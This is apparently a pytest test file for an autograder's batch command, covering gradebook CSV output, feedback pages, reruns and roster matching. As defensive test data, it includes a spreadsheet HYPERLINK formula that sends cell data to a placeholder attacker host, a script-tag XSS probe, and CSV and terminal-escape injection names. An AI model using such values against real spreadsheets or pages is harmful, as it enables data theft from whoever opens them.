"""`grade batch`: a class of 30+ generated submissions into grades.csv, feedback and summary.html."""
from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from conftest import COURSE, fast_course, write_submission
from gatelab.cli import main

MISTAKES = yaml.safe_load((Path(__file__).resolve().parent / "mistakes.yaml").read_text())
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


def make_class(folder: Path) -> dict[str, str]:
    """30+ submissions: correct, buggy, empty, nested, syntax error, hanging, zipped, a broken zip, a stub,
    one that prints HTML. Returns what each is."""
    kinds = {}
    for i in range(5):
        write_submission(folder / f"correct{i}", {})
        kinds[f"correct{i}"] = "correct"
    for name in sorted(MISTAKES)[:17]:
        entry = MISTAKES[name]
        write_submission(folder / f"buggy_{name}", {entry["module"]: (entry["replace"], entry["with"])})
        kinds[f"buggy_{name}"] = "buggy"
    (folder / "empty").mkdir()
    write_submission(folder / "nested" / "homework", {})
    missing_colon = ("def lstm_forward(x, h0, params):", "def lstm_forward(x, h0, params)")
    write_submission(folder / "syntax", {"lstm": missing_colon})
    write_submission(folder / "hanging", {"activations": ("    z = np.asarray(z, dtype=np.float64)\n",
                                                          "    while True:\n        pass\n")})
    write_submission(folder / "shouting", {"activations": ("    return 1.0 - np.tanh(z) ** 2\n",
                                                           "    print('<script>alert(1)</script>')\n"
                                                           "    return 1.0 - np.tanh(z)\n")})
    source = write_submission(folder.parent / "zip-source", {})
    with zipfile.ZipFile(folder / "zipped.zip", "w") as bundle:
        for path in source.glob("*.py"):
            bundle.write(path, f"my-work/{path.name}")
    (folder / "broken.zip").write_bytes(b"not a zip at all")
    stub = write_submission(folder / "stub", {})
    for path in stub.glob("*.py"):
        shutil.copy(COURSE / "exercises" / path.name, path)
    kinds.update(empty="empty", nested="correct", syntax="syntax", hanging="hanging", shouting="buggy",
                 zipped="correct", broken="broken", stub="stub")
    return kinds


@pytest.fixture(scope="module")
def fast_root(tmp_path_factory) -> Path:
    return fast_course(tmp_path_factory.mktemp("fast"))


@pytest.fixture(scope="module")
def graded(fast_root, tmp_path_factory):
    base = tmp_path_factory.mktemp("class")
    kinds = make_class(base / "submissions")
    out = base / "out"
    result = CliRunner().invoke(main, ["batch", str(base / "submissions"), "--out", str(out), "--jobs", "2",
                                       "--assignment", str(fast_root)])
    assert result.exit_code == 0, result.output
    return base, out, kinds, result.output


def _code(document: dict) -> list[dict]:
    return [t for t in document["tests"] if t["kind"] != "question"]


def test_every_submission_has_its_row_in_a_canvas_gradebook(graded):
    """grades.csv: Canvas's columns, the Points Possible row, one row per submission, in name order."""
    base, out, kinds, _ = graded
    assert len(kinds) >= 30
    with open(out / "grades.csv", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert rows[1][0].strip() == "Points Possible"
    students = [row[0] for row in rows[2:]]
    assert students == sorted(kinds) and all(row[2] == row[0] for row in rows[2:])
    scores = {row[0]: float(row[5]) for row in rows[2:]}
    assert scores["empty"] == scores["broken"] == scores["stub"] == 0
    assert scores["correct0"] > scores[next(s for s in kinds if kinds[s] == "buggy")] > 0


def test_each_kind_of_submission_is_graded_for_what_it_is(graded):
    """Correct code gets every code point (nested and zipped ones too, with a notice); a syntax error costs its
    module; a hang hits the time limit; a broken zip says why it was not graded."""
    _, out, kinds, _ = graded
    documents = {s: json.loads((out / "results" / f"{s}.json").read_text()) for s in kinds}
    for student in (s for s, kind in kinds.items() if kind == "correct"):
        assert all(t["status"] == "passed" for t in _code(documents[student])), student
    assert any("inside the folder my-work/" in n for n in documents["zipped"]["notices"])
    assert any("inside the folder homework/" in n for n in documents["nested"]["notices"])
    assert {t["function"] for t in _code(documents["syntax"]) if t["status"] != "passed"} == \
        {t["function"] for t in _code(documents["syntax"]) if t["function"].startswith("lstm.")}
    assert "activations.sigmoid: time limit" in documents["hanging"]["limits_hit"]
    assert "not a readable zip file" in documents["broken"]["error"]
    assert all("there is no file" in t["feedback"] for t in _code(documents["empty"]) if t["kind"] == "values")


def test_feedback_files_are_written_and_escaped(graded):
    """feedback/<student>.md and .html for every submission; what a student printed is escaped in the page."""
    _, out, kinds, _ = graded
    for student in kinds:
        assert (out / "feedback" / f"{student}.md").is_file() and (out / "feedback" / f"{student}.html").is_file()
    page = (out / "feedback" / "shouting.html").read_text()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script>" not in page


def test_the_summary_says_what_an_instructor_needs(graded):
    """summary.html: the histogram, pass rate per function, named mistakes, the hardest questions, limits."""
    _, out, kinds, _ = graded
    page = (out / "summary.html").read_text()
    for heading in ("Scores", "Functions", "Zeros and failures explained"):
        assert f">{heading}</h2>" in page
    assert page.count("<rect") == 10  # the histogram's bins
    named = {m for s in kinds for t in json.loads((out / "results" / f"{s}.json").read_text())["tests"]
             for m in t.get("mistakes", [])}
    assert named and all(f"<code>{m}</code>" in page for m in named)
    assert "activations.sigmoid: time limit" in page and "broken.zip is not a readable zip file" in page


def test_a_rerun_regrades_only_what_changed(graded, fast_root):
    """State lives in the output folder: unchanged submissions are kept, a changed one is graded again."""
    base, out, kinds, _ = graded
    (base / "submissions" / "correct0" / "rnn.py").write_text("raise SystemExit('changed')\n")
    result = CliRunner().invoke(main, ["batch", str(base / "submissions"), "--out", str(out), "--jobs", "2",
                                       "--assignment", str(fast_root)])
    assert result.exit_code == 0, result.output
    assert f"({len(kinds) - 1} unchanged since the last run" in result.output
    document = json.loads((out / "results" / "correct0.json").read_text())
    assert any("could not be imported" in t["feedback"] for t in document["tests"] if t["function"].startswith("rnn."))



def test_a_rerun_never_reads_through_a_symbolic_link(tmp_path):
    """What a submission holds is fingerprinted without following its links: a link to a 600 MB file (sparse:
    no disk) costs neither its size in memory nor the time to read it; the link itself counts, so pointing it
    elsewhere is a change."""
    import time
    import tracemalloc

    from gatelab.grading.batch import fingerprint

    folder = write_submission(tmp_path / "jsmith", {})
    with open(tmp_path / "huge.bin", "wb") as huge:
        huge.truncate(600 * 2**20)
    (folder / "data.py").symlink_to(tmp_path / "huge.bin")
    tracemalloc.start()
    started = time.monotonic()
    try:
        before = fingerprint(folder)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * 2**20 and time.monotonic() - started < 2, (peak, time.monotonic() - started)
    (tmp_path / "other.bin").write_bytes(b"")
    (folder / "data.py").unlink()
    (folder / "data.py").symlink_to(tmp_path / "other.bin")
    assert fingerprint(folder) != before
    (folder / "rnn.py").write_text("changed\n")
    assert fingerprint(folder) != before


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"see feedback")'
ROSTER = [["Student", "ID", "SIS User ID", "SIS Login ID", "Section"],
          ["    Points Possible", "", "", "", "", ""],
          ["Smith, Jo", "101", "S101", "jsmith", "A"], ["Doe, Ann\x1b[2J", "102", "S102", "adoe", "A"],
          [HYPERLINK, "103", "S103", "hyper", "@B"], ["Kim, Lee", "104", "S104", "lkim", "B"]]


@pytest.fixture(scope="module")
def rostered(fast_root, tmp_path_factory):
    """A class graded through the CLI with a real Canvas roster: two folders that clean up to one student
    (jsmith, !jsmith), two that name one roster row differently (S102, 102), a student named like a formula,
    a folder named like one, and an ordinary student."""
    base = tmp_path_factory.mktemp("rostered")
    folder = base / "submissions"
    write_submission(folder / "jsmith", {})
    (folder / "!jsmith").mkdir()
    write_submission(folder / "S102", {})
    (folder / "102").mkdir()
    (folder / "hyper").mkdir()
    (folder / "+cmd").mkdir()
    write_submission(folder / "lkim", {})
    with open(base / "roster.csv", "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(ROSTER)
    out = base / "out"
    result = CliRunner().invoke(main, ["batch", str(folder), "--out", str(out), "--jobs", "2", "--roster",
                                       str(base / "roster.csv"), "--assignment", str(fast_root)])
    assert result.exit_code == 1, result.output  # folders not told apart, and +cmd not in the roster
    assert "1 submission(s) not in the roster and 2 not told apart" in result.output
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    return out, rows, result.output


def test_two_folders_of_one_student_never_swap_or_share_a_roster_row(rostered):
    """jsmith and !jsmith both read as jsmith, S102 and 102 both name Ann Doe: none of the four takes a row
    (no row is chosen by sort order), each pair is named in one message (the roster's names spelt out for the
    terminal), the page lists them as
    unresolved, and the rest of the class is graded into its own rows."""
    out, rows, output = rostered
    logins = [row[3] for row in rows[2:]]
    assert "jsmith" not in logins and "adoe" not in logins, rows
    assert len(logins) == len(set(logins))
    assert "!jsmith" in output and "'jsmith'" in output and "clean up to the same student" in output
    assert "S102" in output and "'102'" in output and "Doe, Ann\\x1b[2J" in output and "\x1b" not in output
    page = (out / "summary.html").read_text()
    assert "Unresolved:" in page and "!jsmith" in page and "S102" in page
    kim = next(row for row in rows[2:] if row[3] == "lkim")
    assert kim[:5] == ROSTER[5][:5] and float(kim[5]) > 0
    assert not (out / "results" / "jsmith.json").exists() and not (out / "results" / "adoe.json").exists()


def test_names_that_clean_up_alike_are_all_refused_whatever_their_order(tmp_path):
    """Case, punctuation and a zip's suffix do not tell students apart: every folder of such a group is
    refused with a message naming the whole group, and a student alone keeps their name."""
    from gatelab.grading.batch import sort_out

    for name in ("JSmith", "jsmith", "ann", "Ann!", "bob"):
        (tmp_path / name).mkdir()
    (tmp_path / "jsmith.zip").write_bytes(b"")
    found, refused = sort_out(tmp_path)
    assert list(found) == ["bob"]
    assert sorted(p.name for p in refused) == ["Ann!", "JSmith", "ann", "jsmith", "jsmith.zip"]
    assert all("'JSmith', 'jsmith', 'jsmith.zip'" in refused[tmp_path / n] for n in ("JSmith", "jsmith.zip"))
    assert "'Ann!', 'ann'" in refused[tmp_path / "ann"]

def test_grades_csv_cells_that_a_spreadsheet_would_run_are_escaped(rostered):
    """A student named =HYPERLINK(...) in the roster, a section @B and a folder named +cmd come out with a
    leading quote (OWASP's rule) as Python's csv reads them; scores stay plain numbers."""
    _, rows, _ = rostered
    hyper = next(row for row in rows[2:] if row[3] == "hyper")
    assert hyper[0] == "'" + HYPERLINK and hyper[4] == "'@B" and hyper[1:4] == ["103", "S103", "hyper"]
    command = next(row for row in rows[2:] if row[0].endswith("+cmd"))
    assert command[:4] == ["'+cmd", "", "'+cmd", "'+cmd"]
    for row in rows[1:]:
        float(row[5])
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row[:5]), row


def test_only_text_cells_are_escaped_negative_scores_stay_numbers():
    """A negative score (a penalty) is a number, not a formula: written as -1.5; a student named -1.5 is
    text, and escaped."""
    from gatelab.grading.batch import Row
    from gatelab.report import classbook

    rows = [Row("-1.5", "/class/-1.5", score=-1.5, max_score=10.0), Row("tab", "/class/tab", score=2.0, max_score=10.0)]
    roster = [{"Student": "\tTab", "ID": "7", "SIS User ID": "tab", "SIS Login ID": "\rtab", "Section": ""}]
    text = classbook.canvas_csv(rows, "-Quiz (3)", roster).text
    header, possible, first, second = csv.reader(io.StringIO(text, newline=""))
    assert header[5] == "'-Quiz (3)" and possible[5] == "10"
    assert first == ["'-1.5", "", "'-1.5", "'-1.5", "", "-1.5"]
    assert second == ["'\tTab", "7", "tab", "'\rtab", "", "2"]

@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium installed here (apt install chromium) to render the page")
def test_the_summary_renders_in_a_browser(graded, tmp_path):
    """Headless Chromium renders summary.html to a screenshot of a real page (not a blank or an error)."""
    _, out, _, _ = graded
    shot = tmp_path / "summary.png"
    subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                    "--disable-background-networking", "--disable-component-update", "--disable-sync",
                    f"--user-data-dir={tmp_path / 'profile'}", f"--screenshot={shot}", "--window-size=1000,1400",
                    (out / "summary.html").as_uri()], capture_output=True, timeout=120, check=True)
    data = shot.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 30_000  # a blank page compresses to a few KB
